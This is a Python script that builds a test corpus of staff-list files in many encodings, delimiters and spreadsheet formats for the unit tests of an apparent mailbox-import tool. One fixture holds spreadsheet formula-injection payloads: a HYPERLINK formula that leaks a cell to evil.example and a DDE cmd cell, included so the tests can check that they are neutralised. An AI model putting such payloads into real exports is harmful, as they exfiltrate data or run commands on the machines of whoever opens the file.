"""Generate the member-list corpus that tests/unit/test_member_files.py reads: python tests/data/members/make_corpus.py.

Each file imitates a list as an office manager really has it (Excel on Chinese, Taiwanese or European Windows,
WPS, hand-edited CSV). Output is byte-for-byte deterministic, so the committed files can be checked against it;
the 10,000-row file is not committed: the tests call write_big() into a temporary folder.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
FIXED_TIME = (2024, 1, 2, 3, 4, 6)        # zip entry timestamps (even seconds: zip stores 2-second steps)
OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def table(rows: list[list[str]], delimiter: str = ",", newline: str = "\r\n") -> str:
    """Rows as a spreadsheet program writes them (minimal quoting)."""
    buffer = io.StringIO(newline="")
    csv.writer(buffer, delimiter=delimiter, lineterminator=newline).writerows(rows)
    return buffer.getvalue()


def junk(n: int, seed: int) -> bytes:
    """Deterministic bytes that are no file format at all."""
    return bytes((i * 37 + seed * 101 + (i >> 3)) % 256 for i in range(n))


# ------------------------------------------------------------------------------------------------- text files

def utf8_comma_en() -> bytes:
    return table([
        ["Name", "Email", "Personal Email", "Phone", "Department", "Job Title", "Quota"],
        ["Zhang Wei", "zhang.wei", "zhangwei@example.net", "13800138000", "Sales", "Sales Manager", "5"],
        ["Li Na", "li.na", "lina@example.org", "13900139000", "Finance", "Accountant", "10"],
        ["Wang Fang", "wang.fang", "", "13700137000", "Operations", "Assistant", ""],
    ], newline="\n").encode("utf-8")


def utf8bom_comma_zh() -> bytes:
    """Excel "CSV UTF-8" on Chinese Windows: BOM, CRLF."""
    return table([
        ["姓名", "邮箱", "个人邮箱", "手机", "部门", "职位", "容量", "权限"],
        ["张伟", "zhang.wei", "zhangwei@example.net", "13800138000", "销售部", "销售经理", "5", "管理员"],
        ["李娜", "li.na", "", "13900139000", "财务部", "会计", "", ""],
        ["王芳", "wang.fang", "wangfang@example.org", "13700137000", "行政部", "行政助理", "10", "普通用户"],
    ]).encode("utf-8-sig")


def gbk_comma_zh() -> bytes:
    """Excel "CSV (逗号分隔)" on Simplified Chinese Windows: code page 936 (GBK), no BOM."""
    return table([
        ["姓名", "邮箱账号", "手机号码", "部门", "职务"],
        ["刘洋", "liu.yang", "13600136000", "技术部", "工程师"],
        ["陈静", "chen.jing", "13500135000", "市场部", "市场专员"],
        ["杨磊", "yang.lei", "13300133000", "人事部", "人事经理"],
        ["王喆", "wang.zhe", "13200132000", "客服部", "客服主管"],   # 喆: GBK, not GB2312
    ]).encode("gbk")


def big5_comma_zh_tw() -> bytes:
    """Excel on Traditional Chinese Windows: code page 950 (Big5)."""
    return table([
        ["姓名", "電子郵件", "部門", "手機", "職位"],
        ["陳大文", "chan.taiman", "業務部", "0912345678", "經理"],
        ["林美玲", "lin.meiling", "會計部", "0922333444", "會計師"],
        ["黃志明", "huang.chiming", "資訊部", "0933444555", "工程師"],
    ]).encode("big5")


def utf16le_tab_excel_unicode() -> bytes:
    """Excel "Unicode text (*.txt)": UTF-16LE with BOM, TAB-separated, CRLF."""
    text = table([
        ["姓名", "邮箱", "部门", "手机", "职位"],
        ["周杰", "zhou.jie", "研发部", "13100131000", "架构师"],
        ["吴霞", "wu.xia", "设计部", "13000130000", "设计师"],
    ], delimiter="\t")
    return b"\xff\xfe" + text.encode("utf-16-le")


def semicolon_cp1252_eu() -> bytes:
    """Excel on German/French Windows: semicolons (the comma is the decimal mark), code page 1252."""
    return table([
        ["Name", "E-mail", "Department", "Phone", "Quota"],
        ["Müller, Jürgen", "juergen.mueller", "Vertrieb", "+49 30 1234567", "1,5"],
        ["Dupont, Élise", "elise.dupont", "Comptabilité", "+33 1 23 45 67 89", "2,5"],
        ["García, José", "jose.garcia", "Ventas", "+34 912 345 678", "10"],
    ], delimiter=";").encode("cp1252")


def tab_separated() -> bytes:
    return table([
        ["Full Name", "Email", "Mobile", "Dept", "Position"],
        ["Zhang Wei", "zhang.wei", "13800138000", "Sales, East", "Manager"],
        ["Li Na", "li.na", "13900139000", "Finance", "Accountant"],
    ], delimiter="\t", newline="\n").encode("utf-8")


def pipe_separated() -> bytes:
    return table([
        ["name", "email", "phone", "department", "title"],
        ["Zhang Wei", "zhang.wei", "13800138000", "Sales", "Manager"],
        ["Li Na", "li.na", "13900139000", "Finance", "Accountant"],
        ["Wang Fang", "wang.fang", "13700137000", "Ops", "Clerk"],
    ], delimiter="|", newline="\n").encode("utf-8")


def mixed_languages() -> bytes:
    return table([
        ["Name", "邮箱", "Department", "手機", "Job title", "个人邮箱"],
        ["张伟", "zhang.wei", "Sales", "13800138000", "销售经理", "zw@example.net"],
        ["陳美玲", "chen.meiling", "會計部", "0912345678", "Accountant", "ml@example.org"],
    ]).encode("utf-8")


def messy_headers() -> bytes:
    """Spaces around and inside, a second BOM, a zero-width space, full-width letters and brackets, colons."""
    header = ["\ufeff  姓 名 ", " Ｅｍａｉｌ ", "手机号码：", "部门（必填）", "  Job Title  ", "Ｑｕｏｔａ（GB）",
              "\u200b个人邮箱*"]
    return table([
        header,
        [" 张伟 ", " zhang.wei\u3000", "13800138000", "销售部", "经理", "5", "zw@example.net"],
        ["李娜", "li.na", "13900139000", "财务部", "会计", "2", ""],
    ]).encode("utf-8-sig")


def missing_email_column() -> bytes:
    """No address column: addresses are made from the names later."""
    return table([
        ["姓名", "部门", "手机"],
        ["张伟", "销售部", "13800138000"],
        ["李娜", "财务部", "13900139000"],
        ["欧阳娜娜", "市场部", "13700137000"],
    ]).encode("utf-8-sig")


def names_only() -> bytes:
    """One column; a quoted name with a comma in it must not split it."""
    return table([["姓名"], ["张伟"], ["李娜"], ["欧阳娜娜"], ["Smith, John"]]).encode("utf-8")


def duplicate_addresses() -> bytes:
    return table([
        ["Name", "Email"],
        ["Zhang Wei", "zhang.wei"],
        ["Zhang Wei (Beijing)", "zhang.wei"],
        ["Li Na", "li.na"],
        ["LI NA", "Li.Na@example.com"],
    ]).encode("utf-8")


def blank_lines() -> bytes:
    """Blank lines between rows, a row of empty cells (as Excel writes an empty row), blank lines at the end."""
    return (
        b"Name,Email,Department\r\n"
        b"\r\n"
        b"Zhang Wei,zhang.wei,Sales\r\n"
        b",,\r\n"
        b"   \r\n"
        b"Li Na,li.na,Finance\r\n"
        b"\r\n"
        b"\r\n"
    )


def formulas() -> bytes:
    """Cells that a spreadsheet would run: they must be read as text and neutralised on export."""
    return table([
        ["Name", "Email", "Department", "Job Title"],
        ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "mallory", "Sales", "+cmd|' /C calc'!A0"],
        ["Bob", "bob", "-2+3", "@SUM(1+1)"],
        ["Carol", "carol", "=1+1", "Clerk"],
    ]).encode("utf-8")


LONG_NAME = "张" + "伟" * 299                  # 300 characters
LONG_DEPARTMENT = "研发中心" * 125             # 500 characters


def long_values() -> bytes:
    return table([
        ["姓名", "邮箱", "部门"],
        [LONG_NAME, "zhang.wei", LONG_DEPARTMENT],
        ["李娜", "li.na", "财务部"],
    ]).encode("utf-8")


def quoted_fields() -> bytes:
    """Embedded delimiters, doubled quotes and a line break inside a quoted cell (Alt+Enter in Excel)."""
    return table([
        ["Name", "Email", "Department", "Job Title"],
        ["Smith, John", "john.smith", "Sales, East", 'He said "hi"'],
        ["O'Brien, Mary", "mary.obrien", "Line one\r\nLine two", "Manager"],
        ["Wang Fang", "wang.fang", "Ops", "Clerk"],
    ]).encode("utf-8")


def phones() -> bytes:
    """Phone numbers as text: leading zeros, +86, spaces, dashes, brackets."""
    return table([
        ["姓名", "手机"],
        ["张伟", "013800138000"],
        ["李娜", "+86 139 0013 9000"],
        ["王芳", "+8613700137000"],
        ["刘洋", "0755-86001234"],
        ["陈静", "(010) 6552 9988"],
        ["赵敏", "008613600136000"],
    ]).encode("utf-8")


def full_addresses() -> bytes:
    """Full addresses where the local part is expected: same domain (any case, Outlook form, mailto:), other."""
    return table([
        ["Name", "Email", "Personal email"],
        ["Zhang Wei", "zhang.wei@example.com", " zw@example.net "],
        ["Li Na", "LI.NA@Example.COM", ""],
        ["Wang Fang", "wang.fang@other.example", ""],
        ["Zhao Lei", "zhao.lei", ""],
        ["Chen Jing", "Chen Jing <chen.jing@example.com>", ""],
        ["Liu Yang", "mailto:liu.yang@EXAMPLE.com", ""],
    ]).encode("utf-8")


def idn_addresses() -> bytes:
    """An internationalised company domain, written in Unicode, as A-labels, with an ideographic full stop."""
    return table([
        ["姓名", "邮箱"],
        ["张伟", "张伟@例子.中国"],
        ["李娜", "li.na@XN--FSQU00A.XN--FIQS8S"],
        ["王芳", "王芳@例子。中国"],
        ["刘洋", "liu.yang@例子.公司"],
    ]).encode("utf-8")


def crlf_utf8() -> bytes:
    return table([
        ["Display name", "Email", "Department"],
        ["Zhang Wei", "zhang.wei", "Sales"],
        ["Li Na", "li.na", "Finance"],
    ], newline="\r\n").encode("utf-8")


def trailing_empty_columns() -> bytes:
    """A sheet whose used range ran further right than its data: empty columns after the last header."""
    return table([
        ["Name", "Email", "Phone", "", "", ""],
        ["Zhang Wei", "zhang.wei", "13800138000", "", "", ""],
        ["Li Na", "li.na", "13900139000", "", "", ""],
    ]).encode("utf-8")


def title_row_zh() -> bytes:
    """A title above the headers, as many sheets have ("2024年新员工名单" in A1)."""
    return table([
        ["2024年新员工名单", "", "", ""],
        ["姓名", "邮箱", "部门", "手机"],
        ["张伟", "zhang.wei", "销售部", "13800138000"],
        ["李娜", "li.na", "财务部", "13900139000"],
    ]).encode("utf-8-sig")


def excel_sep_line() -> bytes:
    """Excel's "sep=;" first line, which names the delimiter."""
    return ("sep=;\r\n" + table([
        ["Name", "Email", "Phone"],
        ["Zhang Wei", "zhang.wei", "13800138000"],
        ["Li Na", "li.na", "13900139000"],
    ], delimiter=";")).encode("utf-8")


def header_only() -> bytes:
    return "姓名,邮箱,部门\r\n".encode("utf-8-sig")


def unclosed_quote() -> bytes:
    """A quotation mark opened on line 3 and never closed: lenient CSV readers make lines 3-4 one cell."""
    return "姓名,邮箱,部门\r\n张伟,zhang.wei,销售部\r\n\"李娜,li.na,财务部\r\n王芳,wang.fang,行政部\r\n".encode()


def prose() -> bytes:
    """A note saved as .txt, not a table, with commas that could pass for delimiters."""
    return (
        b"Hi Lisa,\n"
        b"\n"
        b"As discussed on the phone this morning, here are the people who start next month. Zhang Wei joins sales,\n"
        b"Li Na goes to finance, and Wang Fang will help us in operations until the end of the year, probably longer.\n"
        b"Could you please set up their mailboxes before Monday? They should also get access to the shared calendar.\n"
        b"\n"
        b"Thanks a lot, and have a nice weekend,\n"
        b"Chen\n"
    )


# ------------------------------------------------------------------------------------------------- binary files

def _deterministic_zip(data: bytes) -> bytes:
    """The same zip with fixed timestamps and fixed document dates, so the bytes do not change between runs."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename == "docProps/core.xml":
                content = re.sub(rb"(<dcterms:(created|modified)[^>]*>)[^<]*", rb"\g<1>2024-01-02T03:04:05Z", content)
            target.writestr(zipfile.ZipInfo(info.filename, FIXED_TIME), content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _workbook_bytes(build: Callable[[Any], None]) -> bytes:
    import openpyxl

    workbook = openpyxl.Workbook()
    workbook.properties.creator = "MailWizard tests"
    build(workbook.active)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return _deterministic_zip(buffer.getvalue())


def xlsx_zh_numeric_phone() -> bytes:
    """Chinese headers; phones, quotas and dates stored as numbers, one phone kept with a 0-padding format."""
    def build(sheet: Any) -> None:
        sheet.title = "员工"
        sheet.append(["姓名", "邮箱", "手机", "部门", "容量", "入职日期"])
        sheet.append(["张伟", "zhang.wei", 13800138000, "销售部", 5, dt.date(2024, 3, 1)])
        sheet.append(["李娜", "li.na", 13900139000.0, "财务部", 2.5, dt.datetime(2024, 3, 15, 9, 30)])
        sheet.append(["王芳", "wang.fang", 2112345678, "行政部", 10, None])
        sheet["C4"].number_format = "00000000000"
    return _workbook_bytes(build)


def xlsx_header_row2() -> bytes:
    """Row 1 empty (but formatted), headers on row 2, a formatted empty row after the data."""
    def build(sheet: Any) -> None:
        from openpyxl.styles import Font

        sheet["A1"].font = Font(bold=True)
        for column, value in enumerate(["Name", "Email", "Phone", "Department"], start=1):
            sheet.cell(row=2, column=column, value=value)
        sheet.cell(row=3, column=1, value="Zhang Wei")
        sheet.cell(row=3, column=2, value="zhang.wei")
        sheet.cell(row=3, column=3, value="+86 138 0013 8000")
        sheet.cell(row=3, column=4, value="Sales")
        sheet.cell(row=4, column=1, value="Li Na")
        sheet.cell(row=4, column=2, value="li.na")
        sheet.cell(row=4, column=3, value=13900139000)
        sheet["A6"].font = Font(italic=True)
    return _workbook_bytes(build)


def xlsx_second_sheet() -> bytes:
    """A cover note on the first sheet, the staff on the second."""
    def build(sheet: Any) -> None:
        sheet.title = "说明"
        sheet.append(["请在“员工”表中填写新员工信息。"])
        staff = sheet.parent.create_sheet("员工")
        staff.append(["姓名", "邮箱", "部门"])
        staff.append(["张伟", "zhang.wei", "销售部"])
        staff.append(["李娜", "li.na", "财务部"])
    return _workbook_bytes(build)


def xlsx_headers_only() -> bytes:
    def build(sheet: Any) -> None:
        sheet.append(["姓名", "邮箱", "部门"])
    return _workbook_bytes(build)


def zip_not_xlsx() -> bytes:
    """A zip (say, photos) renamed to .xlsx."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("readme.txt", FIXED_TIME), "not a workbook")
    return out.getvalue()


def old_binary_xls() -> bytes:
    """Named .xls, content that no program reads: the old format is refused by name with a hint."""
    return junk(2048, seed=1)


def encrypted_xlsx() -> bytes:
    """What Excel writes for a password-protected .xlsx: an OLE2 compound file, not a zip."""
    return OLE_MAGIC + junk(4088, seed=2)


FILES: dict[str, Callable[[], bytes]] = {
    "utf8_comma_en.csv": utf8_comma_en,
    "utf8bom_comma_zh.csv": utf8bom_comma_zh,
    "gbk_comma_zh.csv": gbk_comma_zh,
    "big5_comma_zh_tw.csv": big5_comma_zh_tw,
    "utf16le_tab_excel_unicode.txt": utf16le_tab_excel_unicode,
    "semicolon_cp1252_eu.csv": semicolon_cp1252_eu,
    "tab_separated.tsv": tab_separated,
    "pipe_separated.txt": pipe_separated,
    "mixed_languages.csv": mixed_languages,
    "messy_headers.csv": messy_headers,
    "missing_email_column.csv": missing_email_column,
    "names_only.csv": names_only,
    "duplicate_addresses.csv": duplicate_addresses,
    "blank_lines.csv": blank_lines,
    "formulas.csv": formulas,
    "long_values.csv": long_values,
    "quoted_fields.csv": quoted_fields,
    "phones.csv": phones,
    "full_addresses.csv": full_addresses,
    "idn_addresses.csv": idn_addresses,
    "crlf_utf8.csv": crlf_utf8,
    "trailing_empty_columns.csv": trailing_empty_columns,
    "title_row_zh.csv": title_row_zh,
    "excel_sep_line.csv": excel_sep_line,
    "xlsx_zh_numeric_phone.xlsx": xlsx_zh_numeric_phone,
    "xlsx_header_row2.xlsx": xlsx_header_row2,
    "xlsx_headers_only.xlsx": xlsx_headers_only,
    "xlsx_second_sheet.xlsx": xlsx_second_sheet,
    "empty.csv": lambda: b"",
    "header_only.csv": header_only,
    "old_binary.xls": old_binary_xls,
    "encrypted.xlsx": encrypted_xlsx,
    "zip_not_xlsx.xlsx": zip_not_xlsx,
    "prose.txt": prose,
    "unclosed_quote.csv": unclosed_quote,
}


def write_big(path: Path, rows: int = 10_000) -> Path:
    """A UTF-8 (BOM) list of `rows` members, generated on the fly by the tests (too big to commit)."""
    departments = ["销售部", "财务部", "技术部", "行政部", "市场部"]
    body = [["姓名", "邮箱", "手机", "部门"]] + [
        [f"员工{i:05d}", f"user{i:05d}", f"138{i:08d}", departments[i % len(departments)]] for i in range(rows)
    ]
    path.write_bytes(table(body).encode("utf-8-sig"))
    return path


def write_all(target: Path = HERE) -> list[Path]:
    written = []
    for name, make in FILES.items():
        path = target / name
        path.write_bytes(make())
        written.append(path)
    return written


if __name__ == "__main__":
    for written_path in write_all(Path(sys.argv[1]) if len(sys.argv) > 1 else HERE):
        print(written_path.name)
